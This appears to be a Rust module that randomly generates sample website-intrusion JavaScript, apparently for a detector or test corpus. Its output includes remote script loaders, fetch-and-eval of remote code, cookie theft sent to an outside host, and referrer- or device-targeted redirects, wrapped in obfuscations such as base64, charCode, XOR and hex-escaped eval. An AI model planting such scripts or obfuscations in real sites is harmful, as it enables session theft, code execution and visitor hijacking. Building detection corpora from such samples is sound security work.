//! Scripts of intruders, plain and made hard to read.

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::chance::Chance;

/// Returns code that adds a script or a frame of `host`.
pub fn loader(chance: &mut Chance, host: &str) -> String {
    let code = match chance.below(4) {
        0 => format!(
            "var d=document,s=d.createElement('script');s.async=1;s.src='https://{host}/j.js';d.head.appendChild(s)"
        ),
        1 => format!("document.write('<scr'+'ipt src=\"//{host}/m.js\"></scr'+'ipt>')"),
        2 => format!(
            "fetch('https://{host}/c').then(function(r){{return r.text()}}).then(function(t){{(0,eval)(t)}})"
        ),
        _ => format!("new Image().src='https://{host}/k?c='+encodeURIComponent(document.cookie)"),
    };
    hardened(chance, &code)
}

/// Returns code that sends the visitor to `host`.
pub fn redirector(chance: &mut Chance, host: &str) -> String {
    let url = format!("https://{host}/?s={}", chance.token(5));
    let code = match chance.below(6) {
        0 => format!("window.location.href='{url}'"),
        1 => format!("location.replace('{url}')"),
        2 => format!("setTimeout(function(){{top.location='{url}'}},1500)"),
        3 => format!(
            "document.addEventListener('click',function(){{window.open('{url}')}},{{once:true}})"
        ),
        4 => format!(
            "if(/google|bing|coccoc/.test(document.referrer)){{window['loc'+'ation']['hr'+'ef']='{url}'}}"
        ),
        _ => format!("if(/android|iphone/i.test(navigator.userAgent)){{self['location']='{url}'}}"),
    };
    hardened(chance, &code)
}

/// Writes code in one of the ways in which intruders hide what it does.
pub fn hardened(chance: &mut Chance, code: &str) -> String {
    match chance.below(9) {
        0 => format!("eval(atob('{}'))", STANDARD.encode(code)),
        1 => {
            let numbers: Vec<String> = code.bytes().map(|byte| byte.to_string()).collect();
            format!("eval(String.fromCharCode({}))", numbers.join(","))
        }
        2 => {
            let mut escaped = String::new();
            for byte in code.bytes() {
                let _ = write!(escaped, "\\x{byte:02x}");
            }
            let name = format!("_0x{}", chance.token(4).to_lowercase());
            format!(
                "var {name}=[\"{escaped}\"];(function(a){{[]['filter']['constructor'](a[0])()}})({name})"
            )
        }
        3 => {
            let key = u8::try_from(chance.between(1, 120)).unwrap_or(7);
            let numbers: Vec<String> = code.bytes().map(|byte| (byte ^ key).to_string()).collect();
            format!(
                "(function(){{var r='',a=[{}];for(var i=0;i<a.length;i++)r+=String.fromCharCode(a[i]^{key});Function(r)()}})()",
                numbers.join(",")
            )
        }
        4 => {
            let reversed: String = code.chars().rev().collect();
            format!(
                "setTimeout({}.split('').reverse().join(''),10)",
                quoted(&reversed)
            )
        }
        5 => {
            let mut escaped = String::new();
            for byte in code.bytes() {
                let _ = write!(escaped, "%{byte:02X}");
            }
            format!("eval(unescape('{escaped}'))")
        }
        6 => {
            let name = chance.token(3);
            format!("var _{name}={};window['e'+'v'+'al'](_{name})", quoted(code))
        }
        _ => format!("(function(){{{code}}})();"),
    }
}

fn quoted(text: &str) -> String {
    format!(
        "\"{}\"",
        text.replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace("</", "<\\/")
    )
}
